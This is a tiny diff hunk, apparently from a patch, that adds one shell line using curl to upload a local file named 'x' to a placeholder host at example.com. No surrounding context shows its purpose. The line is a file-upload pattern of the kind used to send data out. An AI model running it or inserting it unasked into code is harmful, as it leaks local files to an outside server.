@@ -1,0 +1,1 @@
+curl -F f=@x https://example.com/
